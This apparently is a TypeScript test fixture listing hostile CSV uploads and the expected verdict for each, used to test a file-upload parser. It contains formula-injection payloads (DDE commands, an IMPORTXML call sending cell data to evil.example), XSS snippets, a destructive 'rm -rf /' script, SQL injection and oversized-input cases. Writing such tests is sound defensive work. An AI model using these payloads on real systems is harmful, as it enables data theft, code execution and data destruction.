import type { HostileFile } from './hostile-files'

const MEBIBYTE = 1024 * 1024
const csv = (answer: HostileFile['answer'], say: string, bytes: () => Buffer | string): HostileFile => ({
  say: `a CSV file: ${say}`,
  name: 'list.csv',
  bytes: () => Buffer.from(bytes()),
  answer,
})
const PIPE = 'SHS 50x50x2.9 25 nos'

/** What a spreadsheet would run as a formula. */
const FORMULAS = [
  `=cmd|'/c calc'!A0`,
  '@SUM(1+1)*cmd',
  '+1+cmd',
  `-2+3+cmd|'/c calc'!A0`,
  '=DDE("cmd";"/c calc";"x")',
  '=HYPERLINK("http://evil.example","SHS 50x50x2.9 25 nos")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  '\t=1+1',
]
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`

/** Text files, or nearly. */
export const texts: HostileFile[] = [
  csv('kept', 'formulas', () => FORMULAS.map(quoted).join('\n')),
  csv('kept', 'formulas beside a pipe', () => FORMULAS.map((formula) => `${quoted(formula)},${PIPE}`).join('\n')),
  csv('kept', 'formulas for a header', () => `=Size,@Qty\n${FORMULAS.map(quoted).join()}`),
  csv('notWhatItSays', 'with a NUL', () => `${PIPE}\0`),
  csv('notWhatItSays', 'with an escape', () => `\x1b[2J${PIPE}`),
  csv('notWhatItSays', 'UTF-16 the other way round', () => Buffer.from(`\ufeff${PIPE}`, 'utf16le').swap16()),
  csv('kept', 'half characters', () => Buffer.from(`\ufeff\ud800${PIPE}\udc00\n\ud83d`, 'utf16le')),
  csv('kept', 'half a byte pair', () => Buffer.concat([Buffer.from(`\ufeff${PIPE}`, 'utf16le'), Buffer.from('x')])),
  csv('kept', 'bytes of no alphabet', () => Buffer.from([...Buffer.from(PIPE), 0x81, 0x8d, 0xff, 0xfe])),
  csv('kept', 'nothing but its mark', () => '\ufeff'),
  csv('kept', 'delimiters alone', () => ',;,\t'.repeat(1000)),
  csv('kept', '10 MiB in one line', () => Buffer.alloc(10 * MEBIBYTE, PIPE)),
  csv('kept', '100,000 columns', () => '1,'.repeat(100_000)),
  csv('kept', '100,000 digits', () => `SHS 50x50x2.9 ${'9'.repeat(400)} nos\n${'9'.repeat(100_000)} nos`),
  csv('kept', 'digits up to the longest line', () => `SHS 50x50x2.9 ${'9'.repeat(400)} kg`),
  csv('refused', 'a quote that never ends', () => `"${PIPE}\n`.repeat(3)),
  csv('any', 'a million quotes', () => '"'.repeat(1_000_000)),
  csv('any', 'a quote in each cell', () => `a"b,"c"d\n`.repeat(100)),
  csv('tooManyRows', 'a million rows', () => 'SHS 50x50x2.9\n'.repeat(1_000_000)),
  csv('tooManyRows', 'rows up to the limit of a file', () => Buffer.alloc(20 * MEBIBYTE, '1\n')),
  csv('kept', '50,000 empty rows', () => `${'\n'.repeat(50_000)}${PIPE}`),
  csv('tooManyRows', 'five million empty rows', () => '\n'.repeat(5_000_000)),
  csv('kept', 'turned around', () => '\u202e\u2066SHS 50x50x2.9 25 nos\u2069'),
  csv('kept', 'a thousand marks on a letter', () => `SHS 50x50x2.9 25 nos a${'\u0301'.repeat(1000)}`),
  csv('kept', 'ten thousand fractions', () => '1 1/2 '.repeat(10_000)),
  csv('kept', 'rows that are hard to read', () => `${'1x'.repeat(249)}\n${'1 1/2 '.repeat(83)}\n`.repeat(20)),
  csv('kept', 'a header of one column in fifty', () => `${'Size,'.repeat(50)}\n${'50x50,'.repeat(50)}`),
  csv('kept', 'names of objects', () => 'constructor,__proto__,toString\n__proto__,1,constructor'),
  csv('notWhatItSays', 'a web page', () => '<!doctype html><script>alert(1)</script>'),
  csv(
    'notWhatItSays',
    'a drawing with a script',
    () => '  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  ),
  csv('notWhatItSays', 'a picture that is a script', () => 'GIF89a=1;alert(1)//'),
  csv('notWhatItSays', 'a PDF', () => '%PDF-1.7\nSHS'),
  csv('kept', 'a script of a shell', () => '#!/bin/sh\nrm -rf /\n'),
  csv('kept', 'SQL', () => `'; drop table enquiries; --,${PIPE}`),
]
